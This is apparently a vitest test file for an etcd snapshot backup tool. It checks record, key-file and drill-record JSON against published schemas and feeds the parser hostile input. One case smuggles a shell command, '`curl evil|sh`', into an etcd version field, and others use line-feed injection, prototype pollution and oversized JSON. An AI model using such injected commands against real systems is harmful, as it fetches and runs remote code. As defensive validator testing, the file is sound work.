import { parseDrillRecord, renderDrillRecord, type DrillRecord } from "../../src/snapshots/drill-record.ts";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { Ajv2020 } from "ajv/dist/2020.js";
import { describe, expect, test } from "vitest";
import { renderDrillSchema, renderKeyFileSchema, renderRecordSchema } from "../../scripts/record-schema-text.ts";
import type { KeyFile } from "../../src/encryption/key-file.ts";
import { ActionError } from "../../src/errors.ts";
import { parseRecord, renderRecord, type SnapshotRecord } from "../../src/snapshots/record.ts";

const text = readFileSync(join(import.meta.dirname, "../../docs/record.schema.json"), "utf8");
const schema = JSON.parse(text) as object;
const isValid = new Ajv2020().compile(schema);

/** `T` with every optional field. */
type Whole<T> = T extends readonly (infer Item)[]
  ? readonly Whole<Item>[]
  : string extends keyof T
    ? T
    : T extends object
      ? { readonly [Field in keyof T]-?: Whole<T[Field]> }
      : T;

/** Every field that a record can have; the type makes a new one impossible to forget. */
const record: Whole<Omit<SnapshotRecord, "networking">> & Required<Pick<SnapshotRecord, "networking">> = {
  schemaVersion: 1,
  createdAt: "2026-11-24T12:01:00Z",
  nonce: "0123456789abcdef0123456789abcdef",
  action: { version: "0.1.0" },
  run: {
    repository: "example/clusters",
    workflow: "nightly",
    runId: "7001",
    runAttempt: "1",
    url: "https://x.example",
  },
  hostedCluster: {
    namespace: "clusters",
    name: "example",
    uid: "c0ffee00-0000-4000-8000-000000000000",
    controlPlaneNamespace: "clusters-example",
    infraID: "example-abcde",
    clusterID: "c0ffee00-0000-4000-8000-000000000001",
    baseDomain: "example.com",
    platform: "AWS",
    releaseImage: "quay.example/release:4.20.1",
    releaseVersion: "4.20.1",
    availabilityPolicy: "HighlyAvailable",
    services: [{ service: "APIServer", hostname: "api.example.com" }],
  },
  quiesced: true,
  apiDowntimeSeconds: 12.3,
  pausedAt: "2026-11-24T12:00:00Z",
  resumedAt: "2026-11-24T12:00:30Z",
  snapshots: [
    {
      uri: "s3://backups/clusters/example/20261124T120000Z-01234567.db",
      versionId: "v1",
      sizeBytes: 20_512,
      sha256: "ab".repeat(32),
      revision: 4711,
      entries: 100,
      liveKeys: 90,
      hash: "0a1b2c3d",
      hashKV: { revision: 4711, compactRevision: -1, hash: 12_345 },
      etcdVersion: "3.6.5",
      storageVersion: "3.6.0",
      member: { name: "etcd-0", id: "8e9e05c52164694d" },
      clusterId: "cdf818194e3a8c32",
    },
  ],
  members: [{ name: "etcd-0", id: "8e9e05c52164694d", revision: 4711, hashKV: 12_345 }],
  issuerURL: "https://issuer.example",
  networking: { clusterNetwork: [{ cidr: "10.132.0.0/14" }] },
  encryption: {
    type: "aescbc",
    secretName: "example-etcd-encryption-key",
    secretNamespace: "clusters",
    keys: [{ name: "key-2835225111", sha256: "cd".repeat(32), role: "active" }],
    kms: { keyARN: "arn:aws:kms:eu-central-1:111122223333:key/0" },
    sealedKeyUri: "s3://backups/clusters/example/20261124T120000Z-01234567.key.age",
    sealedKeySha256: "23".repeat(32),
    recipients: ["age1qqqq"],
    valuesChecked: 90,
  },
  serviceAccountSigningKey: { secretName: "example-signing-key", sha256: "ef".repeat(32) },
  contents: { secrets: 12, "apps/deployments": 3 },
  liveSet: { sha256: "01".repeat(32), keys: 90, valueBytes: 40_960 },
  prediction: {
    plain: { revision: 4711, hashKV: 12_345 },
    bumped: { revision: 1_000_004_711, hashKV: 54_321 },
    members: { "3": { clusterId: "6aa29d70b678c330", memberIds: ["1a", "2b", "3c"] } },
  },
  proofs: { trailer: true, readBack: true, structure: true, membersAgree: true, keysProven: true },
};

const keyFile: Whole<KeyFile> = {
  schemaVersion: 1,
  run: { name: "20261124T120000Z-01234567", nonce: record.nonce },
  hostedCluster: { namespace: "clusters", name: "example", clusterID: "one" },
  encryptionKeys: [
    {
      secretNamespace: "clusters",
      secretName: "example-etcd-encryption-key",
      role: "active",
      name: "key-2835225111",
      bytes: "AAAA",
      sha256: "cd".repeat(32),
    },
  ],
  serviceAccountSigningKey: {
    origin: "secret",
    secretNamespace: "clusters",
    secretName: "example-signing-key",
    bytes: "AAAA",
    sha256: "ef".repeat(32),
    unread: "the Secret is missing",
  },
};

const drill: DrillRecord = {
  schemaVersion: 1,
  drilledAt: "2026-11-29T04:00:00Z",
  action: { version: "1.0.0" },
  run: record.run,
  hostedCluster: { namespace: "clusters", name: "example" },
  releaseVersion: "4.20.0",
  snapshot: { uri: "s3://b/a.db", versionId: "v1", sizeBytes: 4096, sha256: "ab".repeat(32), revision: 4711 },
  etcd: { image: "registry.example/etcd@sha256:00", version: "3.5.21" },
  scripts: ["bumped", "plain"],
  liveKeys: 90,
  secrets: { shown: true, read: 20, resources: ["secrets"], namespaces: 4 },
  phases: [
    { name: "fetched", seconds: 0.4 },
    { name: "restored", script: "plain", seconds: 0.2 },
  ],
  rtoSeconds: 0.6,
};

const written: unknown = JSON.parse(renderRecord(record).toString());

test("docs/record.schema.json is made of the schema that the reader uses (npm run record-schema)", async () => {
  expect(text).toBe(await renderRecordSchema());
});

test("docs/key-file.schema.json is made of the schema that the reader uses, and describes every field", async () => {
  const keysText = readFileSync(join(import.meta.dirname, "../../docs/key-file.schema.json"), "utf8");
  expect(keysText).toBe(await renderKeyFileSchema());
  const keysSchema = JSON.parse(keysText) as object;
  expect(new Ajv2020().compile(keysSchema)(keyFile)).toBe(true);
  expect(listFields(keyFile)).toStrictEqual(listDescribed(keysSchema));
});

test("docs/drill.schema.json is made of the schema that the reader uses, and describes every field", async () => {
  const drillText = readFileSync(join(import.meta.dirname, "../../docs/drill.schema.json"), "utf8");
  expect(drillText).toBe(await renderDrillSchema());
  const isValidDrill = new Ajv2020().compile(JSON.parse(drillText) as object);
  for (const secrets of [drill.secrets, { shown: false, reason: "no key was given" }] as const) {
    const result = { ...drill, secrets };
    expect(isValidDrill(result)).toBe(true);
    expect(parseDrillRecord(renderDrillRecord(result).toString())).toStrictEqual(result);
  }
  expect(isValidDrill({ ...drill, rtoSeconds: -1 })).toBe(false);
  expect(parseDrillRecord(JSON.stringify({ ...drill, schemaVersion: 2 }))).toBeUndefined();
  expect(parseDrillRecord("{")).toBeUndefined();
});

test("a record with every field is valid, and is read as it was written", () => {
  expect(isValid(written)).toBe(true);
  expect(parseRecord(renderRecord(record).toString(), "s3://b/a.json")).toStrictEqual(written);
});

test("the schema describes every field of a record, and no other", () => {
  expect(listFields(written)).toStrictEqual(listDescribed(schema));
});

test("fields that this version does not know are kept", () => {
  const future = { ...record, future: { field: 1 }, proofs: { ...record.proofs, signed: true } };
  expect(isValid(future)).toBe(true);
  expect(parseRecord(JSON.stringify(future), "s3://b/a.json")).toStrictEqual(future);
});

test("no record is written that its reader would refuse", () => {
  expect(() => renderRecord({ ...record, createdAt: "yesterday" })).toThrow(ActionError);
});

describe("what is not a record is record-invalid, and neither shown nor thrown as anything else", () => {
  const huge = "x".repeat(500_000);
  const withKeys = (keys: unknown) => ({ ...record, encryption: { ...record.encryption, keys } });

  test.each<[string, unknown]>([
    ["keys that are an object", withKeys({})],
    ["keys that are text", withKeys("abc")],
    ["keys that are null", withKeys(null)],
    ["a key that is null", withKeys([null])],
    ["a key of another name", withKeys([{ name: "key-1:", sha256: "cd".repeat(32), role: "active" }])],
    ["a key of another role", withKeys([{ name: "key-1", sha256: "cd".repeat(32), role: "old" }])],
    ["a time of 500,000 characters", { ...record, createdAt: huge }],
    ["a version of etcd that a shell would run", withSnapshot({ etcdVersion: "3.5.21`curl evil|sh`" })],
    ["a version of etcd with a line feed", withSnapshot({ etcdVersion: "3.5.21\nrecovered=true" })],
    ["a release of 500,000 characters", { ...record, hostedCluster: { ...record.hostedCluster, releaseImage: huge } }],
    ["services that are an object", { ...record, hostedCluster: { ...record.hostedCluster, services: {} } }],
    ["a size that no number holds", withSnapshot({ sizeBytes: 2 ** 60 })],
    ["a revision that is infinite", JSON.stringify(record).replace('"revision":4711', '"revision":1e999')],
    ["a proof that is text", { ...record, proofs: { trailer: "true", readBack: "true" } }],
    ["a list", [record]],
    ["text", "record"],
    ["null", null],
    ["no JSON", "{"],
    ["deep JSON", "[".repeat(100_000)],
    ["a prototype in place of fields", '{"__proto__":' + JSON.stringify(record) + ',"schemaVersion":1}'],
    ["another schemaVersion", { ...record, schemaVersion: 2 }],
    ["a schemaVersion that is text", { ...record, schemaVersion: "1" }],
    ["a million members", { ...record, members: Array.from({ length: 1_000_000 }, () => 1) }],
  ])("%s", (_, value) => {
    const given = typeof value === "string" && /^[[{]/.test(value) ? value : JSON.stringify(value);
    const error = failureOf(given);
    expect(error).toMatchObject({ code: "record-invalid" });
    expect(error?.message.length).toBeLessThan(300);
  });
});

/** Reader and published schema are two views of one source: they must judge every value alike. */
describe("reader and schema agree on a record whose field is", () => {
  const hostile = [null, true, 0, -1, 1.5, 2 ** 60, "", "x", "x".repeat(5_000), [], [null], {}, { a: null }];
  const paths = listFields(written).map((path) => path.split("."));

  test.each(hostile.map((value) => [JSON.stringify(value).slice(0, 20), value]))("%s", (_, value) => {
    for (const path of paths) {
      const changed = replace(written, path, value);
      expect([path.join("."), failureOf(JSON.stringify(changed)) === undefined]).toEqual([
        path.join("."),
        isValid(changed),
      ]);
    }
  });

  test("missing", () => {
    for (const path of paths) {
      const changed = replace(written, path, undefined);
      expect([path.join("."), failureOf(JSON.stringify(changed)) === undefined]).toEqual([
        path.join("."),
        isValid(JSON.parse(JSON.stringify(changed))),
      ]);
    }
  });
});

function withSnapshot(change: object): unknown {
  return { ...record, snapshots: [{ ...record.snapshots[0], ...change }] };
}

function failureOf(given: string): ActionError | undefined {
  try {
    parseRecord(given, "s3://b/a.json");
    return undefined;
  } catch (error) {
    if (error instanceof ActionError) return error;
    throw error;
  }
}

/** Paths of all fields in `value`; `0` for the first item of a list. */
function listFields(value: unknown, path: readonly string[] = []): readonly string[] {
  if (typeof value !== "object" || value === null) return [];
  return Object.entries(value)
    .filter(([field]) => !Array.isArray(value) || field === "0")
    .flatMap(([field, inner]) => {
      const open = ["networking", "encryption.kms", "contents", "prediction.members"].includes(
        [...path, field].join("."),
      );
      return [[...path, field].join("."), ...(open ? [] : listFields(inner, [...path, field]))];
    })
    .sort();
}

function listDescribed(described: object, path: readonly string[] = []): readonly string[] {
  const { properties = {}, items } = described as { properties?: Record<string, object>; items?: object };
  return [...Object.entries(properties), ...(items === undefined ? [] : [["0", items] as const])]
    .flatMap(([field, inner]) => [[...path, field].join("."), ...listDescribed(inner, [...path, field])])
    .sort();
}

/** A copy of `value` with `change` at `path`. */
function replace(value: unknown, [step, ...rest]: readonly string[], change: unknown): unknown {
  if (step === undefined) return change;
  const inner = replace((value as Record<string, unknown>)[step], rest, change);
  return Array.isArray(value)
    ? value.map((item: unknown, index) => (String(index) === step ? inner : item))
    : { ...(value as object), [step]: inner };
}
